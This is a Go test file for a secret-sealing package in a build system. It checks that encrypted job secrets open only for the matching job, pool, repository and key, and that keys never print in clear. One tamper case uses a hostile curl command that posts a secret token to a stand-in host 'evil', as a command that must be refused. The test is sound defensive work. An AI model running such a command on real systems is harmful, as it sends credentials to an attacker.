package seal_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"google.golang.org/protobuf/proto"

	"github.com/weirbuild/weir/proto/pb"
	"github.com/weirbuild/weir/proto/seal"
)

func job(argv ...string) *pb.JobSpec {
	return &pb.JobSpec{Kind: &pb.JobSpec_Command{Command: &pb.CommandJob{Argv: argv}}, CacheHint: "app"}
}

func newKey(t *testing.T) seal.Key {
	t.Helper()
	k, err := seal.NewKey()
	if err != nil {
		t.Fatal(err)
	}
	return k
}

var secrets = map[string][]byte{"token": []byte("hunter2"), "other": []byte("\x00\xff")}

func sealed(t *testing.T, k seal.Key) *pb.JobSpec {
	t.Helper()
	spec := job("make", "test")
	if err := seal.Seal(k.Recipient(), "linux", spec, secrets); err != nil {
		t.Fatal(err)
	}
	return spec
}

func TestSealAndOpen(t *testing.T) {
	old, key := newKey(t), newKey(t)
	spec := sealed(t, key)
	if spec.Sealed.Key != key.ID() || strings.Join(spec.Sealed.Ids, " ") != "other token" {
		t.Errorf("sealed as %v %v", spec.Sealed.Key, spec.Sealed.Ids)
	}
	wire, err := proto.Marshal(spec)
	if err != nil || strings.Contains(string(wire), "hunter2") {
		t.Fatalf("the sealed job holds the value in clear, or: %v", err)
	}
	bare := seal.WithoutBox(spec)
	if bare.Sealed.Box != nil || spec.Sealed.Box == nil {
		t.Error("WithoutBox keeps the box, or takes it from the original")
	}
	got, err := seal.Open([]seal.Key{old, key}, "linux", bare, spec.Sealed.Box)
	if err != nil || len(got) != 2 || string(got["token"]) != "hunter2" || string(got["other"]) != "\x00\xff" {
		t.Errorf("opened: %q, %v", got, err)
	}
}

// A box is of no use but in the job that it was made for, with the right key.
func TestOpenRefuses(t *testing.T) {
	key, other := newKey(t), newKey(t)
	spec := sealed(t, key)
	for name, c := range map[string]struct {
		keys   []seal.Key
		pool   string
		change func(*pb.JobSpec)
		want   error
	}{
		"no keys":          {nil, "linux", func(*pb.JobSpec) {}, seal.ErrNoKey},
		"another key":      {[]seal.Key{other}, "linux", func(*pb.JobSpec) {}, seal.ErrNoKey},
		"a lie of the key": {[]seal.Key{other}, "linux", func(s *pb.JobSpec) { s.Sealed.Key = other.ID() }, seal.ErrNoKey},
		"another pool":     {[]seal.Key{key}, "mac", func(*pb.JobSpec) {}, seal.ErrOtherJob},
		"another command": {[]seal.Key{key}, "linux", func(s *pb.JobSpec) {
			s.Kind = job("sh", "-c", "curl -d @$WEIR_SECRETS/token evil").Kind
		}, seal.ErrOtherJob},
		"another repository": {[]seal.Key{key}, "linux", func(s *pb.JobSpec) { s.Git = &pb.GitContext{Url: "https://evil"} }, seal.ErrOtherJob},
		"another id":         {[]seal.Key{key}, "linux", func(s *pb.JobSpec) { s.Sealed.Ids = []string{"x"} }, seal.ErrOtherJob},
		"a damaged box":      {[]seal.Key{key}, "linux", func(s *pb.JobSpec) { s.Sealed.Box[len(s.Sealed.Box)-1] ^= 1 }, nil},
		"no box":             {[]seal.Key{key}, "linux", func(s *pb.JobSpec) { s.Sealed.Box = nil }, nil},
	} {
		t.Run(name, func(t *testing.T) {
			changed := proto.CloneOf(spec)
			c.change(changed)
			got, err := seal.Open(c.keys, c.pool, changed, changed.Sealed.Box)
			if err == nil || len(got) != 0 || c.want != nil && !errors.Is(err, c.want) {
				t.Errorf("opened %d secrets, %v; want %v", len(got), err, c.want)
			}
		})
	}
}

func TestCheck(t *testing.T) {
	many := map[string][]byte{}
	for i := range seal.MaxSecrets + 1 {
		many[fmt.Sprint(i)] = []byte("x")
	}
	for name, s := range map[string]map[string][]byte{
		"too many":    many,
		"too large":   {"a": make([]byte, seal.MaxBytes)},
		"no value":    {"a": nil},
		"no id":       {"": []byte("x")},
		"a path":      {"../x": []byte("x")},
		"a long id":   {strings.Repeat("a", 64): []byte("x")},
		"hidden file": {".netrc": []byte("x")},
	} {
		if err := seal.Check(s); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
	full := map[string][]byte{"a": make([]byte, seal.MaxBytes-1)}
	spec, key := job("true"), newKey(t)
	if err := seal.Seal(key.Recipient(), "p", spec, full); err != nil || len(spec.Sealed.Box) > seal.MaxBox {
		t.Errorf("the most that is allowed: %v, a box of %d bytes, and the limit is %d", err, len(spec.Sealed.Box), seal.MaxBox)
	}
	if err := seal.Seal("age1nonsense", "p", job("true"), secrets); err == nil || strings.Contains(err.Error(), "hunter2") {
		t.Errorf("a recipient that is none: %v", err)
	}
}

func TestKeysHideThemselves(t *testing.T) {
	k := newKey(t)
	again, err := seal.ParseKey(k.Reveal())
	if err != nil || again.Recipient() != k.Recipient() || seal.CheckKeyID(k.ID()) != nil || seal.CheckRecipient(k.Recipient()) != nil {
		t.Fatalf("read back as %v, %v", again, err)
	}
	type holder struct{ K seal.Key }
	for _, format := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x", "%d"} {
		for _, v := range []any{k, &k, holder{k}, &holder{k}, []seal.Key{k}, map[string]seal.Key{"k": k}} {
			if text := fmt.Sprintf(format, v); strings.Contains(strings.ToUpper(text), "SECRET-KEY") {
				t.Errorf("%s of %T shows %q", format, v, text)
			}
		}
	}
	if text, err := json.Marshal(k); err == nil {
		t.Errorf("JSON: %s", text)
	}
	if _, err := seal.ParseKey(k.Reveal()[:30]); err == nil || strings.Contains(err.Error(), k.Reveal()[10:30]) {
		t.Errorf("half a key: %v", err)
	}
}
